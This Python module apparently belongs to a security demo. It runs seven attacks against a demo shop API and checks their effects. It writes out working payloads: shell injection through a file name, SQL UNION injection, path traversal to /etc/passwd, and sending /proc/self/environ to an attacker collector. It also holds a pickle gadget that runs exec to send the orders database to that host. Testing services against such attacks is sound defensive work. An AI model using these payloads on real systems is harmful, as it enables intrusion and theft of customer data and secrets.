"""The attacks, and what each did as seen from outside: in the answer, at the attacker."""

import base64
import json
import pickle
import re
from collections.abc import Callable
from dataclasses import dataclass

from demo.api_gateway import Call
from demo.attacker import Hit
from demo.neighbours import Neighbours
from demo.picture import gradient
from demo.traffic import ADA, CUSTOMERS

ACCOUNT = re.compile(r"^[\w.-]+:[^:\n]*:\d+:\d+:", re.MULTILINE)
OTHERS = tuple(name for name in CUSTOMERS if name != ADA)


@dataclass(frozen=True, slots=True)
class Evidence:
    """What an attack left outside the function: the answer's body, and requests to the attacker."""

    body: str
    hits: tuple[Hit, ...]
    secret: str  # the function's API key, known to nobody else


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack by a signed-in customer, and the effect that proves its success."""

    name: str
    call: Call
    effect: Callable[[Evidence], str]  # in words; empty when there was none


def succeeded(attack: Attack, evidence: Evidence) -> bool:
    """Did `attack` have its effect?"""
    return bool(attack.effect(evidence))


def attacks(neighbours: Neighbours) -> tuple[Attack, ...]:
    """All attacks, in the order of the table."""
    collector = neighbours.collector
    return (
        Attack("shell injection", _shell(), _database_shown),
        Attack("SQL injection", _sql(), _orders_shown),
        Attack("path traversal", _traversal(), _accounts_shown),
        Attack("unlisted process", _process(), _environment_shown),
        Attack("unlisted host", _host(collector), _key_sent),
        Attack("secrets sent out", _environ(collector), _environment_sent),
        Attack("code in a pickle", _pickle(collector), _database_sent),
    )


def _shell() -> Call:
    name = 'tea.png"; cat orders.sql #'
    picture = base64.b64encode(gradient(8, 8)).decode()
    return Call("POST /pictures", ADA, body={"name": name, "picture": picture})


def _sql() -> Call:
    status = "open' UNION SELECT customer, item, total, address FROM orders--"
    return Call("GET /orders", ADA, query={"status": status})


def _traversal() -> Call:
    template = "../" * 12 + "etc/passwd"
    path = {"id": "A-1001"}
    return Call("GET /orders/{id}/receipt", ADA, path=path, query={"template": template})


def _process() -> Call:
    return Call("GET /exports/{format}", ADA, path={"format": "debug"})


def _host(collector: str) -> Call:
    query = {"supplier": collector}
    return Call("GET /prices/{sku}", ADA, path={"sku": "teapot"}, query=query)


def _environ(collector: str) -> Call:
    body: dict[str, object] = {"template": "/proc/self/environ", "to": f"http://{collector}/keys"}
    return Call("POST /orders/{id}/receipt", ADA, path={"id": "A-1001"}, body=body)


def _pickle(collector: str) -> Call:
    saved = pickle.dumps(_Smuggler(collector), protocol=4)
    body: dict[str, object] = {"saved": base64.b64encode(saved).decode()}
    return Call("POST /carts/restore", ADA, body=body)


class _Smuggler:
    """Becomes, when it is unpickled, a program that sends the shop's database away."""

    def __init__(self, collector: str) -> None:
        self.program = (
            "import os, urllib.request as u;"
            "data = open(os.environ.get('TMPDIR', '/tmp') + '/orders.db', 'rb').read();"
            f"u.urlopen('http://{collector}/orders', data, timeout=2)"
        )

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return exec, (self.program,)


def _database_shown(evidence: Evidence) -> str:
    if "INSERT INTO orders" not in evidence.body:
        return ""
    return f"ran cat: the database, {_others(evidence.body)} other customers"


def _orders_shown(evidence: Evidence) -> str:
    others = _others(evidence.body)
    return f"orders and addresses of {others} other customers" if others else ""


def _accounts_shown(evidence: Evidence) -> str:
    try:
        shown = str(json.loads(evidence.body)["receipt"])
    except (ValueError, KeyError, TypeError):
        return ""
    accounts = len(ACCOUNT.findall(shown))
    return f"/etc/passwd: {accounts} accounts" if accounts else ""


def _environment_shown(evidence: Evidence) -> str:
    try:
        shown = base64.b64decode(json.loads(evidence.body)["file"]).decode(errors="replace")
    except (ValueError, KeyError, TypeError):
        return ""
    return f"ran env: {_names(evidence.secret, shown)}" if evidence.secret in shown else ""


def _key_sent(evidence: Evidence) -> str:
    if not evidence.hits:
        return ""
    keys = sum(evidence.secret in hit.headers for hit in evidence.hits)
    return "sent the API key to the attacker" if keys else "called the attacker"


def _environment_sent(evidence: Evidence) -> str:
    if not evidence.hits:
        return ""
    sent = b"".join(hit.body for hit in evidence.hits).decode(errors="replace")
    return f"sent out {_names(evidence.secret, sent)}"


def _database_sent(evidence: Evidence) -> str:
    if not evidence.hits:
        return ""
    sent = b"".join(hit.body for hit in evidence.hits)
    what = "orders.db" if sent.startswith(b"SQLite format 3") else "data"
    return f"sent out {what}: {len(sent):,} bytes"


def _others(text: str) -> int:
    return sum(name in text or name.replace("'", "''") in text for name in OTHERS)


def _names(secret: str, text: str) -> str:
    return f"{len(text):,} bytes" + (", with the API key" if secret in text else "")
